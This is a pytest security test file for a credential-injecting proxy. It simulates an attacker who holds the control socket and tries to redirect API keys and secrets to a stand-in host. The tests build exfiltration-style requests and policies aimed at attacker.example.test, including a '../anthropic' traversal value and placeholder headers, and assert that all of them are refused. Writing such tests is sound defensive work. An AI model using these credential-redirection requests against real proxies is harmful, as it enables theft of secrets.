"""Whoever took over the server has the control socket and every container's socket.

Shown: with all of that, no secret goes to a host that the proxy's own file does not name for it.
The network is no help here: the file lets the attacker's host be reached.
"""

import base64
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from .conftest import (
    API_KEY,
    SECRET_ACCESS_KEY,
    SESSION_TOKEN,
    Proxy,
    Upstream,
    absolute,
    converse,
    statuses,
)

pytestmark = pytest.mark.anyio

ATTACKER = "attacker.example.test"
PLACEHOLDER_SECRET = "planted-behind-the-placeholder"
SECRETS = (API_KEY, SECRET_ACCESS_KEY, SESSION_TOKEN, PLACEHOLDER_SECRET)
SECRET_FILE = """
[credentials.named]
kind = "secret"
value_file = "{path}"
hosts = ["named.example.test"]
"""


@dataclass
class Attack:
    """The attacker's side: what it says on the control socket, and all that it gets to see."""

    proxy: Proxy
    upstream: Upstream
    seen: list[str] = field(default_factory=list)

    async def bind(self, policy: dict[str, Any], container: str = "c1") -> int:
        """Bind as the server would, with a policy that no check of the server has seen."""
        parts = {"workspace": "w", "tenant": "t", "generation": 1, "policy": policy}
        path = f"/sockets/{self.proxy.name(container)}/binding"
        status, answer = await self.proxy.control("PUT", path, json.dumps(parts))
        self.seen.append(str(answer))
        return status

    async def open(self, container: str = "c1") -> Path:
        return await self.proxy.open(container)

    async def send(self, socket: Path, *sent: bytes) -> list[int]:
        answer = await converse(socket, *sent)
        self.seen.append(answer.decode("latin-1"))
        return statuses(answer)

    def attackers_requests(self) -> list[str]:
        """What arrived at the attacker's host, as text."""
        return [
            str(request)
            for request in self.upstream.requests
            if ATTACKER in dict(request[2]).get("Host", "")
        ]

    def has_nothing(self) -> bool:
        """No secret, in no usual spelling, in anything that the attacker got to see."""
        everything = "\n".join([*self.seen, *self.attackers_requests()])
        spellings = [
            spelt
            for secret in SECRETS
            for spelt in (secret, base64.b64encode(secret.encode()).decode())
        ]
        return not any(spelt in everything for spelt in spellings)


@pytest.fixture
async def attack(proxy: Proxy, upstream: Upstream, tmp_path: Path) -> Attack:
    path = tmp_path / "named"
    path.touch(mode=0o600)
    path.write_text(PLACEHOLDER_SECRET)
    text = proxy.file.read_text() + SECRET_FILE.format(path=path)
    proxy.file.write_text(
        text.replace("[network.hosts]", f'[network.hosts]\n"{ATTACKER}" = "127.0.0.1"')
    )
    assert (await proxy.control("POST", "/reload"))[0] == 200
    return Attack(proxy, upstream)


def to_attacker(port: int, **more: Any) -> dict[str, Any]:
    return {"rules": [{"host": ATTACKER, "ports": [port], **more}]}


@pytest.mark.parametrize(
    "more",
    [
        {"credential": "anthropic"},
        {"credential": "bedrock"},
        {"credential": "named"},
        {"secrets": ["named"]},
        {"secrets": ["anthropic"]},
        {"credential": "anthropic", "endpoint": f"http://{ATTACKER}"},
        {"credential": "../anthropic"},
    ],
)
async def test_no_credential_can_be_led_to_another_host(
    attack: Attack, more: dict[str, Any]
) -> None:
    socket = await attack.open()
    port = attack.upstream.port
    assert await attack.bind(to_attacker(port, **more)) == 422
    sent = await attack.send(socket, absolute("GET", f"http://{ATTACKER}:{port}/"))
    assert sent == [403], "a refused bind leaves the socket unbound"
    assert attack.has_nothing()


@pytest.mark.parametrize(
    "model",
    [
        {"provider": "anthropic", "credential": "anthropic", "endpoint": "http://127.0.0.1:1"},
        {"provider": "anthropic", "credential": "anthropic", "host": ATTACKER},
        {"provider": "anthropic", "credential": "bedrock"},
        {"provider": "bedrock", "credential": "anthropic"},
        {"provider": "bedrock", "credential": "bedrock", "region": "eu-west-1"},
        {"provider": "other", "credential": "anthropic"},
    ],
)
async def test_the_model_path_cannot_be_led_elsewhere(
    attack: Attack, model: dict[str, Any]
) -> None:
    await attack.open()
    assert await attack.bind({"model": model}) == 422
    assert attack.has_nothing()


@pytest.mark.parametrize(
    "extra",
    [
        {"credentials": {"mine": {"kind": "header", "value_env": "TEST_API_KEY"}}},
        {"network": {"hosts": {"api.anthropic.com": "127.0.0.1"}}},
        {"hosts": {"api.anthropic.com": "127.0.0.1"}},
    ],
)
async def test_a_policy_defines_neither_credentials_nor_addresses(
    attack: Attack, extra: dict[str, Any]
) -> None:
    await attack.open()
    assert await attack.bind(extra) == 422


@pytest.mark.parametrize("host", ["api.anthropic.com", "named.example.test"])
async def test_the_hosts_of_credentials_cannot_be_reached_raw(attack: Attack, host: str) -> None:
    await attack.open()
    assert await attack.bind({"rules": [{"host": host}]}) == 422


async def test_a_wildcard_over_a_credentials_host_is_no_raw_way_either(attack: Attack) -> None:
    socket = await attack.open()
    assert await attack.bind({"rules": [{"host": "*.anthropic.com"}]}) == 204
    connect = b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n"
    assert await attack.send(socket, connect) == [403]


@pytest.mark.parametrize(
    "header",
    [
        "X-Key: hakoiri-secret-named",
        "Authorization: Bearer hakoiri-secret-named",
        f"Authorization: Basic {base64.b64encode(b'x:hakoiri-secret-named').decode()}",
        "x-api-key: hakoiri-secret-anthropic",
    ],
)
async def test_a_placeholder_is_not_replaced_towards_the_attacker(
    attack: Attack, header: str
) -> None:
    socket = await attack.open()
    port = attack.upstream.port
    assert await attack.bind(to_attacker(port)) == 204
    await attack.send(socket, absolute("GET", f"http://{ATTACKER}:{port}/", header))
    await attack.send(socket, absolute("GET", f"http://{ATTACKER}:{port}/?k=hakoiri-secret-named"))
    assert attack.has_nothing()


async def test_requests_that_name_two_hosts_do_not_carry_a_credential_over(attack: Attack) -> None:
    socket = await attack.open()
    port = attack.upstream.port
    both = to_attacker(port) | {"model": {"provider": "anthropic", "credential": "anthropic"}}
    assert await attack.bind(both) == 204
    model = b"POST /v1/messages HTTP/1.1\r\nHost: %b:%d\r\nContent-Length: 2\r\n\r\n{}"
    elsewhere = absolute("GET", f"http://{ATTACKER}:{port}/v1/messages")
    await attack.send(socket, model % (ATTACKER.encode(), port), elsewhere)
    keyed = [request for request in attack.upstream.requests if API_KEY in str(request)]
    assert keyed, "the model's own request carries the key"
    assert all(ATTACKER not in str(request) for request in keyed)
    assert len(attack.attackers_requests()) == 1
    assert attack.has_nothing()


async def test_nothing_that_the_control_socket_tells_holds_a_secret(attack: Attack) -> None:
    await attack.open()
    policy = {"model": {"provider": "anthropic", "credential": "anthropic"}}
    assert await attack.bind(policy) == 204
    for url in ("/v1/messages", "https://named.example.test/", f"http://{ATTACKER}/"):
        asked = json.dumps({"policy": policy, "url": url})
        attack.seen.append(str(await attack.proxy.control("POST", "/explain", asked)))
    for path in ("/health", "/stats", "/credentials", "/", "/sockets"):
        attack.seen.append(str(await attack.proxy.control("GET", path)))
    attack.seen.append(await attack.proxy.figures())
    attack.seen.append(str(await attack.proxy.control("POST", "/reload")))
    assert any("anthropic" in told for told in attack.seen)
    assert attack.has_nothing()


async def test_another_workspaces_socket_is_not_taken_over_by_a_bind(attack: Attack) -> None:
    await attack.open("c2")
    assert await attack.bind({}, "c2") == 204
    parts = {"workspace": "stolen", "tenant": "t", "generation": 9, "policy": {}}
    path = f"/sockets/{attack.proxy.name('c2')}/binding"
    assert (await attack.proxy.control("PUT", path, json.dumps(parts)))[0] == 409
